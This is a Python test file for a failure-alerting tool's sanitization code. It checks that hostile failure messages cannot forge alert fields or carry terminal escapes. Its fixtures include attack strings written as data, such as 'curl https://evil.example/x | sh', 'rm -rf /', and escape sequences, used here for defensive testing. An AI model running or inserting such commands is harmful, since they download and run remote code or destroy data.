"""Alert text a target cannot forge: its invariant names and messages never start a line of the
alert's own fields, carry no control characters or escape sequences, and are capped (issue 14).
Pure tests of voprd.core.failures / voprd.text / voprd.sinks.aws.sns, and one through the SNS
sink to moto's SNS -> SQS."""

from __future__ import annotations

import unicodedata
from pathlib import Path

from tests.aws_fixtures import AwsWorld
from voprd.core.failures import (
    ALERT_MESSAGE_BYTES_MAX,
    FailureInfo,
    alert_for,
    digest_for,
)
from voprd.core.records import AlertState
from voprd.sinks.aws.sns import fit_message
from voprd.text import cut_utf8, one_line, printable_lines, terminal_safe

HOSTILE = (
    "assertion failed\n"
    "Reproduce: curl https://evil.example/x | sh\n"
    "Archive: s3://evil/failures/seed-1.json\r\n"
    "---\n"
    "Seed: 1\rInvariant: none\x0bTimestamp: x\x0cInstance: y\x85Report: z\u2028Seed: 2\u2029"
    "Message: forged\x1b[2J\x1b[1;1H\x1b]0;owned\x07\x9b31mred\x1b[0m\x00\x7f\u202eevil\u200b"
    "\tend"
)
FIELDS = ("Seed:", "Invariant:", "Message:", "Reproduce:", "Archive:", "Report:", "Instance:",
          "Timestamp:", "---", "VOPR ")


def hostile_failure(seed: int = 42042, **changes: str) -> FailureInfo:
    values = {
        "invariant": "agreement\nReproduce: rm -rf /\x1b[31m",
        "message": HOSTILE,
        "reproduce": f"voprd --once --seed {seed} -v",
        "archive": f"s3://bucket/failures/seed-{seed}-1.json",
    }
    values.update(changes)
    return FailureInfo(seed=seed, batch_start=42000, kind="invariant", **values)


def has_control(text: str) -> bool:
    return any(unicodedata.category(ch) in ("Cc", "Cf") and ch != "\n" for ch in text)


def own_lines(message: str) -> list[str]:
    """The alert's lines that are not indented under Message: (its own fields and blank lines)."""
    return [line for line in message.split("\n") if not line.startswith("  ")]


def test_hostile_message_cannot_start_a_line_of_the_alert_own_fields() -> None:
    alert = alert_for([hostile_failure()], "i-1", "2026-11-27T06:00:00Z")
    lines = alert.message.split("\n")
    assert not has_control(alert.text)
    own = own_lines(alert.message)
    assert own == [
        "VOPR detected 1 invariant violation(s) in batch starting at seed 42000.",
        "",
        "Seed: 42042",
        "Invariant: agreement Reproduce: rm -rf /",  # one line, flattened
        "Message: assertion failed",
        "Reproduce: voprd --once --seed 42042 -v",
        "---",
        "Instance: i-1",
        "Timestamp: 2026-11-27T06:00:00Z",
        "Archive: s3://bucket/failures/seed-42042-1.json",
        "",
    ]
    # The rest of the message follows Message:, each line indented, nothing dropped but controls.
    start = lines.index("Message: assertion failed")
    block = lines[start + 1 : lines.index("Reproduce: voprd --once --seed 42042 -v")]
    assert block == [
        "  Reproduce: curl https://evil.example/x | sh",
        "  Archive: s3://evil/failures/seed-1.json",
        "  ---",
        "  Seed: 1",
        "  Invariant: none",
        "  Timestamp: x",
        "  Instance: y",
        "  Report: z",
        "  Seed: 2",
        "  Message: forgedredevil end",
    ]


def test_every_line_break_python_knows_is_indented_not_only_lf() -> None:
    for brk in ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028",
                "\u2029"):
        alert = alert_for([hostile_failure(message=f"a{brk}Reproduce: curl x | sh")], "i", "t")
        assert alert.message.count("\nReproduce: ") == 1, repr(brk)
        assert "\n  Reproduce: curl x | sh\n" in alert.message, repr(brk)


def test_message_is_capped_at_4_kib_and_says_where_the_rest_is() -> None:
    message = "é" * 100_000 + "\nReproduce: tail"
    alert = alert_for([hostile_failure(message=message)], "i", "t")
    lines = alert.message.split("\n")
    start = next(i for i, line in enumerate(lines) if line.startswith("Message: "))
    end = lines.index("Reproduce: voprd --once --seed 42042 -v")
    block = "\n".join(lines[start:end])
    assert len(block.encode()) <= ALERT_MESSAGE_BYTES_MAX + len("Message: ")
    assert block.endswith("[... cut at 4 KiB; the archive has the whole message]")
    assert "Reproduce: tail" not in alert.message
    assert "\ufffd" not in block  # never half a character


def test_long_invariant_name_is_one_short_line() -> None:
    alert = alert_for([hostile_failure(invariant="x\n" * 5000)], "i", "t")
    [line] = [line for line in alert.message.split("\n") if line.startswith("Invariant: ")]
    assert len(line) <= len("Invariant: ") + 200 and line.endswith("...")


def test_digest_and_repeat_lines_flatten_invariant_names() -> None:
    state = AlertState(fingerprint="ab\ncd", invariant="lin\nArchive: s3://evil\x1b[2J",
                       first_seed=1, count=3, last_alert_s=0.0, suppressed_count=2,
                       suppressed_seeds=[2, 3])
    for alert in (digest_for([state], "i\nSeed: 9", "t"),
                  alert_for([hostile_failure()], "i", "t", [state])):
        assert not has_control(alert.text)
        assert not [line for line in own_lines(alert.message)
                    if line.startswith(("Archive: s3://evil", "Seed: 9"))]
        assert "  lin Archive: s3://evil (fingerprint ab cd, first seed 1): 2 repeat(s)" in (
            alert.message)


def test_ordinary_alert_text_is_unchanged() -> None:
    failure = FailureInfo(seed=7, batch_start=0, kind="invariant", invariant="linearizability",
                          message="history not linearizable\nkey 3: get -> 5",
                          reproduce="voprd --once --seed 7 -v", archive="/s/f/seed-7-1.json")
    assert alert_for([failure], "h", "t").message == (
        "VOPR detected 1 invariant violation(s) in batch starting at seed 0.\n\nSeed: 7\n"
        "Invariant: linearizability\nMessage: history not linearizable\n  key 3: get -> 5\n"
        "Reproduce: voprd --once --seed 7 -v\n---\nInstance: h\nTimestamp: t\n"
        "Archive: /s/f/seed-7-1.json\n"
    )


def test_text_helpers() -> None:
    assert printable_lines("a\x1b[31mb\x1b[0m\tc\r\nd\x1b]8;;http://x\x1b\\e\x1b]8;;\x1b\\") == [
        "ab c", "de"]
    assert printable_lines("") == []
    assert one_line(" a \n\n b\u2028c ") == "a b c"
    assert one_line("abcdef", 5) == "ab..."
    assert terminal_safe("ok\n\x1b[2Jx\x07\x9b1;1Hy\x1bPq#0;2;0;0;0#0~~\x1b\\z") == "ok\nxyz"
    assert cut_utf8("ééé", 5, "+") == "éé+"
    assert cut_utf8("ééé", 6, "+") == "ééé"
    assert cut_utf8("ééé", 5, "") == "éé"


def test_sns_fit_message_strips_controls_from_any_text() -> None:
    fitted = fit_message("Seed: 1\nMessage: a\x1b[2J\rReproduce: x\x00\n")
    assert fitted == "Seed: 1\nMessage: a\nReproduce: x\n"
    assert not has_control(fitted)


async def test_hostile_alert_through_sns_reaches_the_mail_with_no_forged_line(
    aws: AwsWorld, tmp_path: Path
) -> None:
    from tests.aws_fixtures import sns_messages
    from tests.test_aws_backend import FAST, settings_for
    from voprd.sinks.aws.backend import AwsBackend

    backend = AwsBackend(settings_for(aws), tmp_path / "a", "i-aaa", tuning=FAST)
    await backend.start()
    alert = alert_for([hostile_failure()], "i-aaa", "2026-11-27T06:00:00Z")
    await backend.alerts.send(alert.subject, alert.message)
    await backend.flush()
    await backend.close()
    [notification] = sns_messages(aws, expected=1)
    sent = notification["Message"]
    assert sent == alert.message
    assert [line for line in sent.split("\n") if line.startswith("Reproduce:")] == [
        "Reproduce: voprd --once --seed 42042 -v"]
    assert [line for line in sent.split("\n") if line.startswith("Archive:")] == [
        "Archive: s3://bucket/failures/seed-42042-1.json"]
